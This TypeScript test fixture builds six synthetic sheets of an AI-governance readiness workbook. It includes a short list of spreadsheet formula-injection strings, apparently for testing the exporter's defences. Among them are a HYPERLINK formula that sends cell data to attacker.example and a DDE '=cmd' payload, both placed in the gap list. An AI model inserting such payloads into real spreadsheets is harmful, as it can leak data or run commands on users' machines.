/**
 * The six sheets of the readiness workbook (issue 15) with made-up, generic data: headers as the
 * exports will have them, a 500-row evidence register, and text that looks like formulas.
 */
import type { WorkbookSheet } from '../../../src/lib/workbook/loadWorkbookWriter';

export const INJECTION_LOOKING_TEXT = [
  '=HYPERLINK("http://attacker.example/?d="&A1,"Open the policy")',
  "=cmd|' /C calc'!A0",
  '+41 22 555 01 00',
  '-2 points since the last review',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
];

const day = (offset: number) => new Date(Date.UTC(2026, 0, 1 + offset));
const STATES = ['current', 'due within 30 days', 'overdue', 'missing'];

export function buildReadinessSheets(): WorkbookSheet[] {
  return [
    {
      name: 'Summary',
      headers: ['Item', 'Value'],
      rows: [
        ['Organization', 'Example Org Ltd'],
        ['Workspace', 'Retail banking'],
        ['Exported on', day(333)],
        ['Overall readiness (%)', 61.5],
        ['Applicable controls', 33],
        ['Open gaps', INJECTION_LOOKING_TEXT.length],
        ['Content version', '2026-11'],
      ],
    },
    {
      name: 'Readiness by area',
      headers: ['Area', 'Clauses', 'Questions', 'Answered', 'Readiness (%)', 'Change since last snapshot (points)'],
      rows: ['Context', 'Leadership', 'Planning', 'Support', 'Operation', 'Performance evaluation', 'Improvement'].map(
        (area, index) => [area, `${index + 4}`, 6 + index, 5 + index, 40 + index * 7.5, index - 2],
      ),
    },
    {
      name: 'Gap list',
      headers: ['Priority', 'Gap', 'Control or clause', 'Why it is a gap', 'Owner', 'Due date', 'Status'],
      rows: INJECTION_LOOKING_TEXT.map((text, index) => [
        index + 1,
        text,
        `A.${index + 2}.${index + 1}`,
        'No current evidence',
        index % 2 === 0 ? 'CISO' : null,
        day(360 + index * 10),
        'open',
      ]),
    },
    {
      name: 'Statement of Applicability',
      headers: [
        'Control',
        'Title',
        'Applicable',
        'Justification',
        'Implementation status',
        'Owner',
        'AI systems',
        'Evidence',
        'Last changed',
      ],
      rows: Array.from({ length: 38 }, (_, index) => [
        `A.${Math.floor(index / 5) + 2}.${(index % 5) + 1}`,
        `Control title ${index + 1}`,
        index % 9 !== 4,
        index % 9 === 4
          ? 'Excluded: no AI system is offered to customers.'
          : 'Treats risks from the AI risk assessment.',
        ['not started', 'planned', 'partial', 'implemented'][index % 4] ?? null,
        'Control owner',
        'sys-001; sys-002',
        `EV-${index + 1}`,
        day(index * 3),
      ]),
    },
    {
      name: 'Evidence register',
      headers: ['ID', 'Title', 'Location', 'Owner', 'Controls', 'Clauses', 'Last reviewed', 'Review by', 'State'],
      rows: Array.from({ length: 500 }, (_, index) => [
        `EV-${index + 1}`,
        `Evidence item ${index + 1}`,
        `https://intranet.example/policies/${index + 1}`,
        'Evidence owner',
        `A.${(index % 9) + 2}.1`,
        `${(index % 7) + 4}.1`,
        day(index % 300),
        day((index % 300) + 365),
        STATES[index % STATES.length] ?? null,
      ]),
    },
    {
      name: 'AI system inventory',
      headers: [
        'ID',
        'Name',
        'Purpose',
        'Owner',
        'Our role',
        'Lifecycle stage',
        'Data categories',
        'Third-party components',
        'EU AI Act tier',
        'Impact assessment',
        'In scope',
        'Reason',
      ],
      rows: Array.from({ length: 200 }, (_, index) => [
        `sys-${String(index + 1).padStart(3, '0')}`,
        `System ${index + 1}`,
        'Line one of the purpose\nline two of the purpose',
        'System owner',
        ['develops', 'provides', 'uses'][index % 3] ?? null,
        'deployed',
        'personal data; telemetry',
        'hosted model API',
        'limited',
        day(index),
        index % 10 !== 0,
        index % 10 === 0 ? 'Retired before the audit period' : null,
      ]),
    },
  ];
}
